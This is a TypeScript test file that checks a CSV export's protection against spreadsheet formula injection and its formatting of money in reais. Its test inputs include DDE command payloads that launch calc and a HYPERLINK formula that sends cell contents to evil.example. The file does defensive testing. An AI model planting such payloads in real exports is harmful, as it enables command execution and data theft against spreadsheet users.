import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvMoney, neutraliseCsvText, writeCsv } from '../src/csv.ts';

/** What a spreadsheet would get in each cell: the CSV parsed back (the quoting undone). */
const cells = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';' });
const write = (records: Parameters<typeof writeCsv>[0]) =>
  writeCsv(records, { columns: ['A', 'B'], header: false, bom: false });

describe('CSV cells (formula injection)', () => {
  it.each([
    ['=', '=1+1'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('a text cell starting with %s gets a leading single quote', (_name, text) => {
    expect(neutraliseCsvText(text)).toBe(`'${text}`);
    const [[cell]] = cells(write([[text]])) as [[string]];
    expect(cell).toBe(`'${text}`);
  });

  it('a trigger behind leading spaces or a line break is neutralised too (import options that trim)', () => {
    expect(neutraliseCsvText('  =1+1')).toBe("'  =1+1");
    expect(neutraliseCsvText('\n@SUM(A1)')).toBe("'\n@SUM(A1)");
  });

  it('ordinary text is left as typed, a trigger in the middle included', () => {
    for (const text of [
      'Maria da Silva',
      'Ana-Clara Souza',
      'Lojas A+B',
      'contato@loja.example',
      "D'Ávila",
      '',
    ])
      expect(neutraliseCsvText(text)).toBe(text);
  });

  it('a name that is a negative number is text, neutralised: only amounts are number cells', () => {
    expect(cells(write([['-5', csvMoney(-500)]]))).toEqual([["'-5", '-5,00']]);
  });

  it('amounts stay numbers: integer centavos as reais with a comma, negatives unquoted', () => {
    expect(
      cells(
        write([
          [csvMoney(-36844), csvMoney(0)],
          [csvMoney(5), csvMoney('123456789012')],
        ]),
      ),
    ).toEqual([
      ['-368,44', '0,00'],
      ['0,05', '1234567890,12'],
    ]);
    expect(() => csvMoney(12.5)).toThrow();
  });

  it('the delimiter, quotes and line breaks inside a neutralised cell survive a round trip', () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1;"x")\nfim';
    expect(cells(write([[name, null]]))).toEqual([[`'${name}`, '']]);
  });

  it('whatever the text, the cell read back is the text itself or the text behind one quote, never a formula', () => {
    const text = fc.oneof(
      fc.string(),
      fc
        .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', '\n', ';', '"'), fc.string())
        .map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(text, (s) => {
        const [[cell]] = cells(write([[s]])) as [[string]];
        expect(cell === s || cell === `'${s}`).toBe(true);
        expect(cell).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
      }),
    );
  });

  it('the header and the byte order mark are written on request', () => {
    const csv = writeCsv([['a', csvMoney(1)]], { columns: ['Cliente', 'Valor'], header: true, bom: true });
    expect(csv).toBe('\uFEFFCliente;Valor\na;0,01\n');
  });
});

describe('every CSV Drip writes', () => {
  it('goes through writeCsv: no other server file imports the CSV writer', () => {
    const src = resolve(import.meta.dirname, '../src');
    const writers = readdirSync(src, { recursive: true, encoding: 'utf8' })
      .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))
      .filter((f) => /from 'csv-stringify/.test(readFileSync(join(src, f), 'utf8')));
    expect(writers).toEqual(['csv.ts']);
  });
});
